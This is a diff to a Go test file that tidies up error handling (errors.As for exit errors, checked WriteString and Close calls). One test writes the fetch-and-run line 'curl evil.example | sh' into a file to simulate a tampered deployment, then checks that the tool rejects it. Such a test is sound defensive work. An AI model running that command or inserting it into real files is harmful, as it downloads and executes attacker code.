@@ -3,6 +3,7 @@ package cli_test
 import (
 	"bytes"
 	"context"
+	"errors"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -170,7 +171,8 @@ func (r actRepo) act(t *testing.T, bin, event, workflow string, extra ...string)
 	cmd.Stdout, cmd.Stderr = &out, &out
 	err := cmd.Run()
 	code := 0
-	if ee, ok := err.(*exec.ExitError); ok {
+	var ee *exec.ExitError
+	if errors.As(err, &ee) {
 		code = ee.ExitCode()
 	} else if err != nil {
 		t.Fatalf("act: %v\n%s", err, out.String())
@@ -240,8 +242,12 @@ func TestActionUnderAct(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		f.WriteString("curl evil.example | sh\n")
-		f.Close()
+		if _, err := f.WriteString("curl evil.example | sh\n"); err != nil {
+			t.Fatal(err)
+		}
+		if err := f.Close(); err != nil {
+			t.Fatal(err)
+		}
 		code, out := r.act(t, act, "workflow_dispatch", "deploy.yml")
 		if code == 0 {
 			t.Fatalf("act passed a tampered deployment:\n%s", tailString(out, 8000))
